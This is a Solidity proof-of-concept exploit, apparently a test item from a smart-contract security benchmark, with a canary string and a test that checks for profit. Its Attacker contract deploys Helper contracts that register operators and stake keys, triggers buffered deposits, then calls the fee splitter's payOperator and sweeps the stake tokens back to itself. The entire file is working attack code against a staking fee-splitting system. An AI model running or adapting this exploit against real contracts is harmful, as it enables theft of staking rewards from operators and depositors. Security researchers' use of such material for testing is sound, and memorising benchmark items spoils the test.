// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Helper {
    constructor() payable {}

    function begin(OperatorRegistry registry, bytes[] calldata keys, bytes[] calldata signatures) external returns (uint256 id) {
        id = registry.join("Late nodes");
        registry.addKeys{value: 4 ether}(id, keys, signatures);
    }

    function end(StakeToken token) external {
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }
}

contract Attacker {
    constructor() payable {}

    function run(
        OperatorRegistry registry,
        StakePool pool,
        FeeSplitter splitter,
        StakeToken token,
        bytes[][] calldata keys,
        bytes[][] calldata signatures
    ) external {
        Helper[] memory helpers = new Helper[](keys.length);
        uint256 first = registry.operatorCount();
        for (uint256 i = 0; i < keys.length; i++) {
            helpers[i] = new Helper{value: 4 ether}();
            helpers[i].begin(registry, keys[i], signatures[i]);
        }
        pool.depositBuffered(keys.length);
        for (uint256 i = 0; i < keys.length; i++) {
            try splitter.payOperator(first + i) {} catch {}
            helpers[i].end(token);
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker{value: 12 ether}();
    }

    function exploit() public {
        bytes[][] memory keys = new bytes[][](3);
        bytes[][] memory signatures = new bytes[][](3);
        for (uint8 i = 0; i < 3; i++) {
            (keys[i], signatures[i]) = _keys(31 + i, 1);
        }
        other.run(registry, pool, splitter, token, keys, signatures);
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(other)) >= 0.5 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(splitter);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
